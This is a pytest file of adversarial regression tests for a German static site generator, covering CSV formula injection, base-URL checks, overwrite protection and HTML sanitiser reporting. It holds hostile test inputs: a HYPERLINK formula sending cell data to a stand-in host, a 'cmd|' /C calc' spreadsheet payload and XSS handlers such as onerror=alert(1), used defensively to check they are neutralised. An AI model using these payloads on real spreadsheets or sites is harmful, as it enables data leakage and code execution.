"""Second pair of eyes on issue 9: attacks the first round of adversarial tests did not cover.

Each test reproduces one defect class found by attacking the merged change and asserts the exact safe
outcome (cells, files, exit codes), never a substring of the implementation's wording.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from test_einschleusen import project, run_cli, site_yaml, yaml_text

from conftest import MINI

ENTRY = (MINI / "quartiere/testviertel/angebote/elterncafe.yaml").read_text("utf-8")

# --- CSV for Excel: a cell from content never starts a formula ----------------------------------------------

# What Excel and LibreOffice read as a formula at the start of a cell (OWASP "CSV injection").
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_review_csv_cells_from_content_are_never_formulas(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://boese.example.org/?"&A1;"Klick")'
    root = project(tmp_path, {
        "quartiere/testviertel/angebote/elterncafe.yaml": ENTRY.replace(
            "name: Elterncafé", f"name: {yaml_text('@SUM(1+1)*cmd')}")
        + f"traeger: {yaml_text(formula)}\ntelefon: {yaml_text('+49 231 12345')}\n",
        "quartiere/testviertel/kontakte/koordination.yaml":
            f"name: {yaml_text('-2+3+cmd|' + chr(39) + ' /C calc' + chr(39) + '!A0')}\n"
            "telefon: 030 23125-100\nstand: 2026-10-01\n",
    })
    target = tmp_path / "liste.csv"
    code, output = run_cli("pruefliste", str(root), "--stichtag", "2030-01-01", "--format", "csv", "-o", str(target))
    assert code == 0, output
    rows = list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 3
    assert [cell for cell in cells if cell.startswith(_FORMULA_START)] == []
    # The values are all still there, as text: the one added apostrophe is what spreadsheets hide.
    for value in (formula, "@SUM(1+1)*cmd", "+49 231 12345", "-2+3+cmd|' /C calc'!A0"):
        assert "'" + value in cells, value


# --- basis_url is a base: every page URL, the sitemap and the booklets' QR codes are appended to it -----------

@pytest.mark.parametrize("base", ["https://familie.example.org/?a=1", "https://familie.example.org/#oben",
                                  "https://familie.example.org/wegweiser?", "https://familie.example.org/#"])
def test_base_url_with_query_or_fragment_is_refused(tmp_path: Path, base: str) -> None:
    # With "?…" or "#…" every canonical link, sitemap entry and QR code would lead to the home page.
    root = project(tmp_path, {"content/site.yaml": site_yaml(basis_url=base)})
    code, output = run_cli("check", str(root))
    assert code == 1
    assert re.search(r"^content/site\.yaml:3:\d+: Fehler: .*basis_url|^content/site\.yaml:3:\d+: Fehler: .*[?#]",
                     output, re.M), output
    code, output = run_cli("build", str(root), "-o", str(tmp_path / "site"))
    assert code == 1 and not (tmp_path / "site").exists()


def test_base_url_with_a_path_still_works(tmp_path: Path) -> None:
    root = project(tmp_path, {"content/site.yaml": site_yaml(basis_url="https://www.example.org/familie/")})
    code, output = run_cli("check", str(root))
    assert code == 0, output


# --- pruefliste -o never overwrites what is not a review list -------------------------------------------------

@pytest.mark.parametrize("relpath", ["content/site.yaml", "quartiere/testviertel/quartier.yaml", "README.md",
                                     ".git/config", "content/neu.md", "quartiere"])
def test_review_list_never_overwrites_project_files(tmp_path: Path, relpath: str) -> None:
    root = project(tmp_path, {"README.md": "# Unser Wegweiser\n", ".git/config": "[core]\n"})
    before = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
    code, output = run_cli("pruefliste", str(root), "--stichtag", "2030-01-01", "-o", str(root / relpath))
    assert code == 2, output
    assert re.search(r"^wegweiser: Fehler: .*„" + re.escape(str((root / relpath).resolve())) + "“", output, re.M), output
    assert not re.search(r"\((Is a directory|Permission denied|No such file)", output), output  # German only
    assert {p: p.read_bytes() for p in root.rglob("*") if p.is_file()} == before


@pytest.mark.parametrize("fmt", ["md", "csv", "html"])
def test_review_list_replaces_its_own_earlier_file(tmp_path: Path, fmt: str) -> None:
    root = project(tmp_path, {})
    target = tmp_path / f"liste.{fmt}"
    for stichtag in ("2030-01-01", "2030-02-01"):
        code, output = run_cli("pruefliste", str(root), "--stichtag", stichtag, "--format", fmt, "-o", str(target))
        assert code == 0, output
    assert "01.02.2030" in target.read_text("utf-8-sig") or fmt == "csv"
    (tmp_path / "notizen.md").write_text("meine Notizen\n", "utf-8")
    code, output = run_cli("pruefliste", str(root), "--stichtag", "2030-01-01", "--format", fmt,
                           "-o", str(tmp_path / "notizen.md"))
    assert code == 2 and (tmp_path / "notizen.md").read_text("utf-8") == "meine Notizen\n"


# --- a removed quarter's booklets do not stay published --------------------------------------------------------

def test_print_removes_booklets_of_quarters_that_are_gone(tmp_path: Path) -> None:
    # A deleted quarter's booklets hold names and phone numbers that are no longer meant to be public; build
    # carries site/druck/ into every new site, so print is the only place that can take them down.
    root = project(tmp_path, {})
    druck = root / "site" / "druck"
    code, output = run_cli("print", str(root))
    assert code == 0, output
    ours = sorted(p.name for p in druck.iterdir())
    for name in ours:
        if name.startswith("testviertel"):
            (druck / name.replace("testviertel", "altes-viertel")).write_bytes((druck / name).read_bytes())
    (druck / "altes-viertel-heft-a5-druckerei.pdf").write_bytes(b"%PDF-1.7\n")
    (druck / "testviertel-heft-a5.pdf.tmp").write_bytes(b"%PDF-halb")  # a print killed while writing
    (druck / "altes-viertel.html.tmp").write_text("halb", "utf-8")
    code, output = run_cli("print", str(root))
    assert code == 0, output
    assert sorted(p.name for p in druck.iterdir()) == ours
    code, output = run_cli("print", str(root), "--quartier", "testviertel")  # a subset keeps the others
    assert code == 0 and sorted(p.name for p in druck.iterdir()) == ours


# --- Markdown: what the sanitiser would drop is reported by check, at its place --------------------------------

@pytest.mark.parametrize(("text", "column", "message"), [
    ("Hallo <img/onerror=alert(1)/src=x> Welt", 27, "Feld „beschreibung“: Das Attribut „onerror“ ist im Text nicht erlaubt."),
    ("Hallo <a/onclick=alert(1)>x</a>", 25, "Feld „beschreibung“: Das Attribut „onclick“ ist im Text nicht erlaubt."),
])
def test_event_handlers_after_a_slash_are_found(tmp_path: Path, text: str, column: int, message: str) -> None:
    # HTML parsers treat "/" like a blank between attributes: the handler is as real as one after a blank.
    root = project(tmp_path, {"quartiere/testviertel/angebote/elterncafe.yaml":
                              ENTRY + f"beschreibung: {yaml_text(text)}\n"})
    code, output = run_cli("check", str(root))
    assert code == 1
    line = ENTRY.count("\n") + 1
    assert f"quartiere/testviertel/angebote/elterncafe.yaml:{line}:{column}: Fehler: {message}" in output, output


def test_images_in_markdown_are_not_dropped_in_silence(tmp_path: Path) -> None:
    # The sanitiser publishes no <img>: an editor's picture would vanish from the page without a word.
    root = project(tmp_path, {"quartiere/testviertel/angebote/elterncafe.yaml":
                              ENTRY + 'beschreibung: "So sieht es aus: ![Unser Raum](bilder/raum.jpg)"\n'})
    code, output = run_cli("check", str(root))
    assert code == 0, output
    line = ENTRY.count("\n") + 1
    assert re.search(rf"^quartiere/testviertel/angebote/elterncafe\.yaml:{line}:33: Warnung: .*Bild", output, re.M), \
        output


@pytest.mark.parametrize("unit", ["<a ", "<a/", "<a o", '<a "'])
def test_check_is_linear_on_repeated_tag_openings(tmp_path: Path, unit: str) -> None:
    # The 90 KB of "<a ": every "<" used to start a scan to the end of the text (over 100 s).
    import time

    root = project(tmp_path, {"quartiere/testviertel/angebote/elterncafe.yaml":
                              ENTRY + f"beschreibung: {yaml_text(unit * 30000)}\n"})
    started = time.perf_counter()
    code, output = run_cli("check", str(root))
    assert time.perf_counter() - started < 10, "check braucht zu lange"
    assert code in (0, 1) and "interner Fehler" not in output
